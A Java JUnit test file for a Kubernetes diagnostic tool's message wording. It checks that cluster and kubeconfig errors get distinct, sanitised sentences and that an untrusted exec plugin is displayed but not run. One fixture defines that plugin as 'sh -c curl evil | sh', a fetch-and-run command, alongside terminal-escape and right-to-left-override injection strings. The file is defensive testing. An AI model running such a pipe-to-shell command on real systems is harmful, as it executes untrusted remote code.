package salvor.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import salvor.cluster.ExecPlugin;
import salvor.cluster.Greeting;
import salvor.cluster.KubeContext;
import salvor.cluster.KubeconfigProblem;
import salvor.cluster.OidcRenewal;
import salvor.cluster.Trouble;

/** Each trouble has its own sentence and remedy, whatever the cluster or kubeconfig says in it. */
class ClusterWordsTest {
  private static final String X = "\u001b[31mx\n\u202e";
  private static final ExecPlugin PLUGIN =
      new ExecPlugin(
          Path.of("/evidence/config"),
          "v1",
          "sh",
          List.of("-c", "curl evil | sh"),
          Map.of("A", X),
          X,
          false);

  private static List<Trouble> all() {
    List<Trouble> all = new ArrayList<>();
    all.add(new Trouble.WrongAuthority(X, X));
    all.add(new Trouble.WrongName(X, X));
    all.add(new Trouble.WrongTime(X, X, Instant.EPOCH));
    all.add(new Trouble.BadCredentials(X));
    all.add(new Trouble.Forbidden(X, X, X, X));
    for (Trouble.Unreachable.Reason reason : Trouble.Unreachable.Reason.values()) {
      all.add(new Trouble.Unreachable(X, reason, X));
    }
    all.add(new Trouble.ProxyUnusable(X));
    for (Trouble.ProxyFailed.Why why : Trouble.ProxyFailed.Why.values()) {
      all.add(new Trouble.ProxyFailed(X, X, why, X));
    }
    all.add(new Trouble.TimedOut(X, Duration.ofSeconds(20)));
    all.add(new Trouble.NotKubernetes(X, 200, X, X));
    all.add(new Trouble.TooOld(X, X));
    all.add(new Trouble.Busy(Duration.ofSeconds(7), X));
    all.add(new Trouble.Missing(X));
    all.add(new Trouble.Expired(X));
    all.add(new Trouble.Refused(500, X, X));
    for (KubeconfigProblem.Cause cause : KubeconfigProblem.Cause.values()) {
      all.add(
          new Trouble.BadKubeconfig(
              List.of(new KubeconfigProblem(Path.of("/x/config"), 3, X, cause, X))));
    }
    all.add(new Trouble.NoCredentials(X));
    all.add(new Trouble.NotConfirmed(PLUGIN, KubeContext.Origin.EVIDENCE));
    all.add(
        new Trouble.NotConfirmed(
            new OidcRenewal(Path.of("/x/config"), X, X, X, X), KubeContext.Origin.USER));
    for (Trouble.NotRenewed.Cause cause : Trouble.NotRenewed.Cause.values()) {
      all.add(new Trouble.NotRenewed(X, Path.of("/x/config"), cause, X));
    }
    all.add(new Trouble.TokenOver(X, Instant.EPOCH));
    all.add(new Trouble.PluginFailed(PLUGIN, X));
    all.add(new Trouble.BadFile(X, X));
    all.add(new Trouble.Other(X));
    return all;
  }

  @Test
  void eachTroubleHasItsOwnSentence() {
    List<String> sentences = all().stream().map(ClusterWords::trouble).toList();
    assertThat(sentences).doesNotHaveDuplicates();
    assertThat(sentences)
        .allSatisfy(sentence ->
            assertThat(sentence).doesNotContain("\u001b", "\n", "\u202e").matches(".*[.?]"));
  }

  @Test
  void aRefusalThatNamesNoRightTellsWhatIsKnown() {
    assertThat(ClusterWords.trouble(new Trouble.Forbidden("", "", "", "")))
        .startsWith("Not allowed: the cluster answers 403 and does not say which right is missing.")
        .doesNotContain("all namespaces", "  ");
    assertThat(
            ClusterWords.trouble(
                new Trouble.Forbidden("", "pods", "", "pods \"a\" is forbidden: violates policy")))
        .startsWith(
            "Not allowed for pods, without a right being named: pods \"a\" is forbidden: violates"
                + " policy. A rule of the cluster")
        .doesNotContain("all namespaces", "  ");
    assertThat(ClusterWords.trouble(new Trouble.Forbidden("list", "", "", "x")))
        .startsWith("Not allowed: list in all namespaces. ");
    assertThat(ClusterWords.trouble(new Trouble.Forbidden("patch", "pods", "shop", "x")))
        .startsWith("Not allowed: patch pods in shop. ");
  }

  @Test
  void aKubeconfigsProblemNamesFileLineAndPlace() {
    assertThat(
            KubeconfigWords.problem(
                new KubeconfigProblem(
                    Path.of("/x/config"),
                    3,
                    "users[2]",
                    KubeconfigProblem.Cause.WRONG_TYPE,
                    "list")))
        .isEqualTo("/x/config, line 3 (users[2]): a list is expected here. Correct the entry.");
  }

  @Test
  void thePluginIsShownWholeAndAsItWouldBeRun() {
    assertThat(ClusterWords.command(PLUGIN)).endsWith("sh -c 'curl evil | sh'");
    ExecPlugin longOne =
        new ExecPlugin(
            Path.of("c"), "v1", "sh", List.of("x".repeat(5000) + "END"), Map.of(), "", false);
    assertThat(ClusterWords.command(longOne)).endsWith("END");
    assertThat(ClusterWords.trouble(new Trouble.NotConfirmed(PLUGIN, KubeContext.Origin.EVIDENCE)))
        .contains("lies in evidence", "It was not run", PLUGIN.fingerprint().substring(0, 12));
  }

  @Test
  void aClockThatIsOffIsToldByHowMuch() {
    assertThat(skew(Duration.ofSeconds(10))).isEmpty();
    assertThat(skew(Duration.ofSeconds(45)))
        .isEqualTo("The cluster's clock is 45 s ahead of this machine's.");
    assertThat(skew(Duration.ofHours(-2)))
        .startsWith("The cluster's clock is 120 min behind this machine's: ");
  }

  private static String skew(Duration ahead) {
    return ClusterWords.skew(
        new Greeting("u", List.of(), "v1", Greeting.Practice.NO, "", "", "", ahead));
  }
}
